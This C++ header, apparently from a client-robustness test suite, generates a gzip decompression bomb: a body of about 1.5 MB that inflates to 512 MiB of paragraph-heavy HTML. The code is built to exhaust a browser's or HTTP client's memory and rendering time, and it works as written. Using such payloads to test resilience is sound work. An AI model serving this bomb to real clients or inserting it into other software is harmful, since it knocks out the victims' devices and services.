#pragma once

#include <zlib.h>

#include <cstddef>
#include <string>

// Bodies that cost a client far more than they cost the server.
namespace quorvane::hostilepages {

constexpr std::size_t ChunkBytes = 1024 * 1024;
constexpr int ChunksInBomb = 512;
constexpr const char *BombHead = "<html><head><title>bomb</title></head><body>\n";

// Markup of many short paragraphs, ChunkBytes bytes: a page made of these
// costs a renderer several times its size.
inline const std::string &paragraphChunk()
{
    static const std::string chunk = [] {
        const std::string paragraph = "<p>" + std::string(56, 'a') + "</p>\n";  // 64 bytes
        std::string text;
        text.reserve(ChunkBytes);
        while (text.size() < ChunkBytes)
            text += paragraph;
        return text;
    }();
    return chunk;
}

// Raw deflate of data, ended by a full flush: the block needs no earlier
// history and ends on a byte boundary, so copies of it may follow each other.
inline std::string deflateFlushed(const std::string &data)
{
    z_stream stream{};
    if (deflateInit2(&stream, Z_BEST_COMPRESSION, Z_DEFLATED, -15, 9, Z_DEFAULT_STRATEGY) != Z_OK)
        return std::string();
    std::string out(deflateBound(&stream, uLong(data.size())) + 64, '\0');
    stream.next_in = reinterpret_cast<Bytef *>(const_cast<char *>(data.data()));
    stream.avail_in = uInt(data.size());
    stream.next_out = reinterpret_cast<Bytef *>(out.data());
    stream.avail_out = uInt(out.size());
    const int result = deflate(&stream, Z_FULL_FLUSH);
    out.resize(out.size() - stream.avail_out);
    deflateEnd(&stream);
    return result == Z_OK && stream.avail_in == 0 ? out : std::string();
}

inline void putLittleEndian(std::string &out, uLong value)
{
    for (int i = 0; i < 4; ++i)
        out.push_back(char((value >> (8 * i)) & 0xff));
}

// A gzip body of about 1.5 MB that inflates to ChunksInBomb MiB of HTML.
// Made once per process from one compressed chunk repeated, in milliseconds.
inline const std::string &gzipBomb()
{
    static const std::string bomb = [] {
        const std::string head = BombHead;
        const std::string &chunk = paragraphChunk();
        const std::string headBlock = deflateFlushed(head);
        const std::string chunkBlock = deflateFlushed(chunk);
        if (headBlock.empty() || chunkBlock.empty())
            return std::string();
        std::string gzip("\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\x03", 10);  // deflate, no name, Unix
        gzip.reserve(gzip.size() + headBlock.size() + chunkBlock.size() * ChunksInBomb + 16);
        gzip += headBlock;
        uLong crc = crc32(0, reinterpret_cast<const Bytef *>(head.data()), uInt(head.size()));
        const uLong chunkCrc = crc32(0, reinterpret_cast<const Bytef *>(chunk.data()), uInt(chunk.size()));
        for (int i = 0; i < ChunksInBomb; ++i) {
            gzip += chunkBlock;
            crc = crc32_combine(crc, chunkCrc, z_off_t(chunk.size()));
        }
        gzip.append("\x01\x00\x00\xff\xff", 5);  // the final block: stored and empty
        putLittleEndian(gzip, crc);
        putLittleEndian(gzip, uLong(head.size() + chunk.size() * ChunksInBomb));  // modulo 2^32
        return gzip;
    }();
    return bomb;
}

}  // namespace quorvane::hostilepages
